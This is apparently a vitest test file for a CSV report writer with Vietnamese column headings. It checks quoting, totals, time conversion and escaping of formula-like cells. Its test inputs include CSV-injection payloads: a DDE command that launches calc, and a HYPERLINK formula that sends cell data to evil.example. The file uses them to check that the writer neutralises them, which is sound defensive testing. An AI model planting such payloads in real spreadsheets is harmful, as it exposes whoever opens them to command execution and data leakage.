import fc from 'fast-check';
import papaparse from 'papaparse';
import { describe, expect, test } from 'vitest';
import { writeCsv } from '../../../lib/reports/csv.ts';
import { bytesOf, makeTable, type SampleRow } from './sample-table.ts';

const textOf = async (rows: Iterable<SampleRow>) => (await bytesOf(writeCsv(makeTable(rows)))).toString();

const cellsIn = (text: string): string[][] => papaparse.parse<string[]>(text.slice(1), { newline: '\r\n' }).data;

const codeAsWritten = async (code: string) => cellsIn(await textOf([{ code }]))[1]?.[1];

test('a report begins with a byte order mark and its headings, and ends with its totals', async () => {
  const rows = [
    { code: '00042', amountVnd: 135_000, on: '2026-11-23', at: '2026-11-23T18:30:05.000Z' },
    { code: 'Khớp, "01"', amountVnd: -7 },
  ];

  expect(await textOf(rows)).toBe(
    '\ufeffSTT,Mã,Số tiền,Ngày,Lúc\r\n' +
      '1,00042,135000,2026-11-23,2026-11-24 01:30:05\r\n' +
      '2,"Khớp, ""01""",-7,,\r\n' +
      ',Tổng cộng,134993,,\r\n',
  );
});

test('a report without rows is its headings and a total of nothing', async () => {
  expect(await textOf([])).toBe('\ufeffSTT,Mã,Số tiền,Ngày,Lúc\r\n,Tổng cộng,0,,\r\n');
});

describe('a text that a spreadsheet would run as a formula', () => {
  test.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '+1+1',
    '-2+3',
    '-',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u0000=1+1',
    '\tplain',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('%j is shown as text', async (code) => {
    expect(await codeAsWritten(code)).toBe(`'${code}`);
  });

  test.each(['LP7K3M9Q2XWW', '1=1', 'a@b', "'=1", '2026-11-23', 'Số 5 - Lê Lợi', ''])(
    '%j is none and stays as it is',
    async (code) => {
      expect(await codeAsWritten(code)).toBe(code);
    },
  );

  test('whatever a text is, no cell begins like a formula, and no row or cell more comes of it', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme' })), async (codes) => {
        const [, ...written] = cellsIn(await textOf(codes.map((code) => ({ code }))));

        expect(written.slice(0, codes.length).map(([, code]) => code?.replace(/^'/, ''))).toEqual(
          codes.map((code) => code.replace(/^'/, '')),
        );
        expect(written.filter(([, code = '']) => /^[=+\-@\t\r]/.test(code))).toEqual([]);
      }),
      { numRuns: 50 },
    );
  });
});

test('numbers stay numbers, below zero too', async () => {
  expect(await textOf([{ amountVnd: -135_000 }])).toContain('\r\n1,,-135000,,\r\n');
});
